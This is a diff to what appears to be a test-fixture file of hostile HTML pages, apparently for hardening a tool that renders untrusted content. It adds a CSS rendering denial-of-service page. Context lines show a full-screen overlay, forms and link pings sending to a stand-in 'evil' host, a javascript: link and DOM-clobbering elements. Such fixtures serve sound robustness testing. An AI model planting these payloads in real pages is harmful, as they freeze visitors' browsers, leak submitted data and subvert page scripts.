@@ -34,6 +34,10 @@ const PAGES: Record<string, string> = {
     @keyframes spin{to{transform:rotate(1turn) scale(99)}}
     #cover{position:fixed;inset:0;z-index:2147483647;background:rgb(0 0 0/.9) url(${evil}/r.png)}
     body:has(p:has(b)) p:has(+ p){backdrop-filter:blur(99px)}</style>${PRODUCT}<div id="cover"></div>`,
+  slow: `<style>body *{box-shadow:0 0 400px 400px rgb(9 9 9/1%);filter:blur(40px);transition:all 9s;will-change:transform}
+    .g{display:grid;grid-template-columns:repeat(9999999,1px);grid-template-rows:repeat(9999999,1px)}
+    .c{column-count:99999;column-width:1px}body:has(*:has(*)) *:not(:has(*)){color:red}
+    .t{height:99999999px}</style>${PRODUCT}<div class=g>${'<b>x</b>'.repeat(2000)}</div><div class=c>${'word '.repeat(5000)}</div><div class=t></div>`,
   forms: `${PRODUCT}<form action="${evil}/s" method=post><input name=getAttribute id=closest autofocus><input type=image src="${evil}/t">
     <button formaction="${evil}/u">go</button></form><a href="${evil}/v" target=_top ping="${evil}/w">away</a>
     <a href="javascript:alert(1)">run</a><img name=elementsFromPoint src=x><img name=querySelectorAll id=body><form name=documentElement></form>`,
